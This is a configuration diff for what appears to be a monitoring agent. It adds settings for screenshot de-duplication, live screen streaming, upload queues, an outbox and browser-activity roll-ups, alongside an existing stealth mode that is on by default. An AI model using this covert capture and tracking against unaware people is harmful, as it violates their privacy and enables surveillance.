@@ -179,6 +179,54 @@ class Config:
     PROCESS_MONITORING = True
     STEALTH_MODE = os.getenv('TENJO_STEALTH_MODE', 'true').lower() == 'true'
     AUTO_START_VIDEO_STREAMING = True  # ENABLED for production
+
+    # Screenshot de-duplication (perceptual difference hash per monitor).
+    # Trade-off: the hash is 16x16 over the whole screen, so a larger distance also
+    # swallows small but meaningful changes (a new chat line, a different browser
+    # tab title) and a longer max age lets one skipped change hide for that long.
+    # Keep the distance to a few bits (cursor blink, clock tick) and the age at
+    # one capture interval (ScreenCapture.capture_interval, 120 s), so at most one
+    # capture in a row is skipped; raise them only to trade accuracy for bandwidth.
+    SCREENSHOT_DEDUP_ENABLED = os.getenv('TENJO_SCREENSHOT_DEDUP', 'true').lower() == 'true'
+    SCREENSHOT_DEDUP_MAX_DISTANCE = int(os.getenv('TENJO_SCREENSHOT_DEDUP_DISTANCE', '3'))  # differing bits (of 256) still treated as unchanged
+    SCREENSHOT_DEDUP_MAX_AGE = int(os.getenv('TENJO_SCREENSHOT_DEDUP_MAX_AGE', '120'))  # seconds - always upload after this long
+
+    # Screenshot pipeline (capture -> encode -> upload) queue bounds
+    SCREENSHOT_ENCODE_QUEUE_SIZE = 4  # raw frames waiting for JPEG encode (oldest dropped when full)
+    SCREENSHOT_UPLOAD_QUEUE_SIZE = 8  # encoded frames waiting for upload (spilled to the outbox when full)
+
+    # Live stream command checks
+    STREAM_POLL_INTERVAL = 15  # seconds between stream command checks when the server answers at once
+    STREAM_LONG_POLL_WAIT = 20  # seconds the server may hold a check open (only if it advertises X-Long-Poll)
+
+    # Live stream quality tier until the server picks one (low / medium / high);
+    # the adaptive controller moves within the tier's bounds based on send latency
+    STREAM_DEFAULT_QUALITY = os.getenv('TENJO_STREAM_QUALITY', 'medium')
+    STREAM_TARGET_LATENCY = 0.25  # seconds per frame send before stepping down
+
+    # Live stream dirty-tile deltas (needs numpy; otherwise every frame is a keyframe)
+    STREAM_DELTA_ENABLED = os.getenv('TENJO_STREAM_DELTA', 'true').lower() == 'true'
+    STREAM_TILE_SIZE = 64
+    STREAM_KEYFRAME_INTERVAL = 10  # seconds between full frames
+
+    # Shared HTTP connection pool (keep-alive connections per server host);
+    # sized for the threads talking to the server concurrently
+    HTTP_POOL_SIZE = int(os.getenv('TENJO_HTTP_POOL_SIZE', '8'))
+
+    # Durable outbox for requests that could not be delivered (replayed in the background)
+    OUTBOX_MAX_BYTES = int(os.getenv('TENJO_OUTBOX_MAX_MB', '200')) * 1024 * 1024
+    OUTBOX_MAX_AGE = int(os.getenv('TENJO_OUTBOX_MAX_AGE_HOURS', '72')) * 3600
+
+    # Browser activity roll-up: send per-domain time buckets instead of one row per URL.
+    # Raw rows are still sent for the allow-listed domains and a sampled fraction of visits
+    BROWSER_ROLLUP_ENABLED = os.getenv('TENJO_BROWSER_ROLLUP', 'false').lower() == 'true'
+    BROWSER_ROLLUP_BUCKET_SECONDS = 300
+    BROWSER_ROLLUP_PATH_DEPTH = int(os.getenv('TENJO_BROWSER_ROLLUP_PATH_DEPTH', '0'))  # path segments kept per bucket
+    BROWSER_ROLLUP_RAW_SAMPLE = float(os.getenv('TENJO_BROWSER_ROLLUP_RAW_SAMPLE', '0'))  # 0.0 - 1.0
+    BROWSER_ROLLUP_RAW_DOMAINS = [d for d in os.getenv('TENJO_BROWSER_ROLLUP_RAW_DOMAINS', '').split(',') if d.strip()]
+
+    # Domain category rules (work / social_media / suspicious) are pulled from the server this often
+    CATEGORY_RULES_REFRESH_INTERVAL = 900  # seconds
     
     # Auto-Update Configuration v2
     AUTO_UPDATE_ENABLED = True